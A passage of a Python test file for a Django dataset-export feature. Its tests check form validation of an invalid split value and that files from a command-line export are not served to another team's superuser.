    assert [e.params["raw_csv"] for e in Export.objects.order_by("pk")] == [False, True]


def test_an_invalid_export_form_is_shown_again_with_the_problem(team, client):
    _login(client, team.admin)
    response = client.post(reverse("export-create", args=[team.dataset.pk]),
                           {"format": "trl", "statuses": ["pending"], "split": "1.5"})
    assert response.status_code == 400
    assert "Ensure this value is less than or equal to 0.99" in response.content.decode()
    assert not Export.objects.exists()


def test_files_of_a_command_line_export_are_not_served(fixture_dataset, tmp_path, client, settings):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    _, exp = export(tmp_path, "golden", "trl")
    admin = Team.create("other").admin
    admin.is_superuser = True
    admin.save()
    _login(client, admin)
    assert client.get(reverse("export-download", args=[exp.pk, "pairs.jsonl"])).status_code == 404
